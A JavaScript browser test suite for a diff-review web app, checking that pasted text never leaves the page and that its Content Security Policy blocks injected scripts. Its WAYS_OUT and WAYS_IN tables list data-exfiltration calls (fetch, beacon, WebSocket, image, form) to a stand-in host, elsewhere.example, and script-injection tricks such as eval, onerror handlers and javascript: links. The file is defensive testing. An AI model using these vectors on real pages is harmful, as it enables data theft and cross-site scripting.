// The promise: nothing of what is pasted leaves the browser, and nothing foreign comes in. First what a whole
// session asks of anybody, then that the browser would refuse it if something tried.

import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { test } from 'node:test';
import { gitHub, pull } from './github.mjs';
import { ADDRESS, onPage } from './page.mjs';
import { box, exported, paste, reviewed, sample, summary } from './reviewing.mjs';

// Stands in every text of the session: wherever it turns up, something of the user's was sent.
const MARK = 'unpublished_moonshot';
const DIFF = sample('dispatch').replaceAll('dispatcher.py', `${MARK}.py`);
const HEAD = 'b'.repeat(40);
const PULL = 'repos/acme/serving/pulls/7';

const standIn = gitHub({
  json: { [PULL]: pull({ repo: 'acme/serving', number: 7, base: 'a'.repeat(40), head: HEAD }) },
  diffs: { [PULL]: sample('dispatch') },
  before: (one, route) => one.host === 'raw.githubusercontent.com' && empty(route),
});

onPage(
  'a whole session asks for files of the site alone, and of GitHub for what the user opens',
  async (page, watch) => {
    const sent = await recording(page);
    await page.reload();
    await paste(page, DIFF);
    await reviewed(page);
    await page.getByRole('searchbox', { name: 'Filter' }).fill('r4');
    await page.getByRole('searchbox', { name: 'Filter' }).fill('');
    await chooseProfile(page);
    await writeWork(page);
    await share(page);
    for (const form of ['Markdown', 'Plain text', 'Review comments', 'SARIF', 'JSON']) {
      assert.ok((await exported(page, form)).includes(MARK), form);
    }
    await page.getByRole('group', { name: 'Samples' }).getByRole('button').first().click();
    await reviewed(page);
    await page.reload();
    await reviewed(page);
    assert.deepEqual(sent.filter(isForeign).map(name), [], 'before an address was opened');

    await page.getByRole('textbox', { name: 'Pull request address' }).fill('acme/serving#7');
    await page.getByRole('button', { name: 'Open', exact: true }).click();
    await page.getByRole('region', { name: 'Fetched from GitHub' }).waitFor();
    await reviewed(page);
    await until(() => sent.some(({ url }) => url.host === 'raw.githubusercontent.com'));
    assert.deepEqual([...new Set(sent.filter(isForeign).map(({ url }) => url.host))].sort(), [
      'api.github.com',
      'raw.githubusercontent.com',
    ]);
    sent.filter(isForeign).forEach(assertSaysNothing);
    sent.filter((one) => !isForeign(one)).forEach(assertIsFileOfTheSite);
    // The stand-in's whole files are empty and do not fit the diff.
    watch.errors.length = 0;
  },
  { github: standIn.answer },
);

// What a script could try that somebody smuggled in. The browser refuses each, whatever our code does.
const WAYS_OUT = {
  'a request': (host) => fetch(host),
  'a request that reads no answer': (host) => fetch(host, { mode: 'no-cors', method: 'POST', body: 'x' }),
  'an older request': (host) => {
    const request = new XMLHttpRequest();
    request.open('POST', host);
    request.send('x');
  },
  'a beacon': (host) => navigator.sendBeacon(host, 'x'),
  'a socket': (host) => void new WebSocket(host.replace('http', 'ws')),
  'a stream of events': (host) => void new EventSource(host),
  'a picture': (host) => void (new Image().src = host),
  'a font': (host) => new FontFace('x', `url(${host})`).load(),
  'a sound': (host) => new Audio(host).play(),
  'a style sheet': (host) =>
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: host })),
  'a frame': (host) => document.body.append(Object.assign(document.createElement('iframe'), { src: host })),
  'a form': (host) => {
    const form = Object.assign(document.createElement('form'), { action: host, method: 'post' });
    document.body.append(form);
    form.submit();
  },
};

// How text becomes a script. Each would set `ran`.
const WAYS_IN = {
  'text as a script': () => eval('ran = 1'),
  'text as a function': () => Function('ran = 1')(),
  'text for later': () => setTimeout('ran = 1', 0),
  'markup with a handler': () => (document.body.innerHTML = '<img src="nothing" onerror="ran = 1">'),
  'markup in a frame of its own': () => {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<script>parent.ran = 1</script>';
    document.body.append(frame);
  },
  'a handler as an attribute': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'ran = 1');
    document.body.append(button);
    button.click();
  },
  'a link with a script as its address': () => {
    const link = document.createElement('a');
    link.href = 'javascript:ran=1';
    document.body.append(link);
    link.click();
  },
  'a script in the page': () => {
    const script = document.createElement('script');
    script.append('ran = 1');
    document.body.append(script);
  },
  'a script from text': () => import('data:text/javascript,globalThis.ran=1'),
  'a worker from text': () => new Worker(URL.createObjectURL(new Blob(['']))),
  'another policy': () => trustedTypes.createPolicy('mine', { createHTML: (text) => text }),
  'another base': () => {
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example' }));
    if (document.baseURI.includes('elsewhere')) globalThis.ran = 1;
  },
};

onPage('the browser refuses every way out of the page', async (page, watch) => {
  await box(page).waitFor();
  for (const [what, way] of Object.entries(WAYS_OUT)) {
    const { refused } = await attempt(page, way, `https://elsewhere.example/${encodeURIComponent(what)}`);
    assert.ok(refused.length > 0, `${what} was not refused`);
  }
  assert.deepEqual(watch.foreign, []);
  watch.errors.length = 0;
});

onPage('the browser refuses every way out of the worker', async (page, watch) => {
  await paste(page, DIFF);
  await reviewed(page);
  const [worker] = page.workers();
  for (const way of ['a request', 'a request that reads no answer', 'an older request', 'a socket', 'a stream of events']) {
    const { refused } = await attempt(worker, WAYS_OUT[way], 'https://elsewhere.example');
    assert.ok(refused.length > 0, `${way} was not refused`);
  }
  assert.deepEqual(watch.foreign, []);
  watch.errors.length = 0;
});

onPage('the browser makes a script of no text', async (page, watch) => {
  await box(page).waitFor();
  for (const [what, way] of Object.entries(WAYS_IN)) {
    const { refused, ran } = await attempt(page, way);
    assert.ok(refused.length > 0, `${what} was not refused`);
    assert.equal(ran, undefined, what);
  }
  watch.errors.length = 0;
});

onPage('only the one place that may makes a worker', async (page, watch) => {
  await box(page).waitFor();
  const said = await page.evaluate(() => {
    try {
      return String(new Worker('worker.js', { type: 'module' }));
    } catch (error) {
      return String(error);
    }
  });
  assert.match(said, /TrustedScriptURL/);
  watch.errors.length = 0;
});

test('no other page may put this one into a frame', async () => {
  const { headers } = await fetch(ADDRESS);
  assert.match(headers.get('content-security-policy'), /frame-ancestors 'none'/);
  assert.equal(headers.get('cross-origin-opener-policy'), 'same-origin');
});

// Tries one way. What is refused is told by an event, which may come a moment later.
async function attempt(place, way, host) {
  await place.evaluate(() => {
    const target = globalThis.document ?? globalThis;
    globalThis.refused = [];
    target.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => globalThis.refused.push(effectiveDirective));
  });
  // In a turn of its own: what a debugger runs itself may evaluate text.
  await place.evaluate(
    `void setTimeout(async () => { try { await (${way})(${JSON.stringify(host)}) } catch {} }, 0)`,
  );
  for (let turn = 0; ; turn += 1) {
    const { refused, ran } = await place.evaluate(() => ({ refused: globalThis.refused, ran: globalThis.ran }));
    if (refused.length > 0 || turn === 40) return { refused, ran };
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
}

// Everything that is asked for from now on.
async function recording(page) {
  const sent = [];
  page.context().on('request', (request) => {
    const url = new URL(request.url());
    // What is saved as a file never leaves.
    if (url.protocol === 'blob:') return;
    sent.push({ url, method: request.method(), body: request.postData(), headers: request.headers() });
  });
  page.on('websocket', (socket) => sent.push({ url: new URL(socket.url()), method: 'GET', body: null, headers: {} }));
  return sent;
}

function isForeign({ url }) {
  return url.origin !== ADDRESS;
}

function name({ url, method }) {
  return `${method} ${url}`;
}

// A file's bare address, which says nothing but that the page was loaded.
function assertIsFileOfTheSite(one) {
  const path = decodeURIComponent(one.url.pathname.slice(1)) || 'index.html';
  assert.ok(FILES.has(path), `${name(one)} is no file of the site`);
  assert.deepEqual([one.method, one.url.search, one.body], ['GET', '', null], name(one));
  assertSaysNothing(one);
}

function assertSaysNothing(one) {
  assert.equal(one.body, null, name(one));
  assert.ok(!JSON.stringify([one.url, one.headers]).includes(MARK), `${name(one)} carries what was pasted`);
  assert.equal(one.headers.referer, undefined, `${name(one)} says where it comes from`);
}

const FILES = new Set(
  readdirSync(process.env.HUNKWISE_SITE, { recursive: true }).map((file) => file.replaceAll('\\', '/')),
);

async function chooseProfile(page) {
  await page.getByRole('button', { name: 'Profile' }).click();
  const profile = JSON.stringify({ name: MARK, cache: { roots: [MARK] } });
  await page.locator('#profile-file').setInputFiles({ name: `${MARK}.json`, mimeType: 'application/json', buffer: Buffer.from(profile) });
  await page.getByText(`Reviews use ${MARK}.`).waitFor();
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
  await summary(page).getByText(`Profile: ${MARK}.`).waitFor();
}

async function writeWork(page) {
  const line = page.getByRole('region', { name: 'Checklist' }).getByRole('listitem').filter({ has: page.locator('input[name="answer-R1"]') });
  await line.getByRole('radio', { name: 'Checked' }).check();
  await line.getByRole('textbox', { name: 'Note' }).fill(MARK);
}

async function share(page) {
  await page.getByRole('button', { name: 'Share' }).click();
  const dialog = page.getByRole('dialog', { name: 'Share' });
  await dialog.getByRole('textbox', { name: 'Link' }).waitFor();
  await dialog.getByRole('button', { name: 'Close' }).click();
}

async function empty(route) {
  await route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, contentType: 'text/plain', body: '' });
  return true;
}

async function until(holds) {
  for (let turn = 0; !(await holds()); turn += 1) {
    assert.ok(turn < 400, 'It did not come about.');
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
}
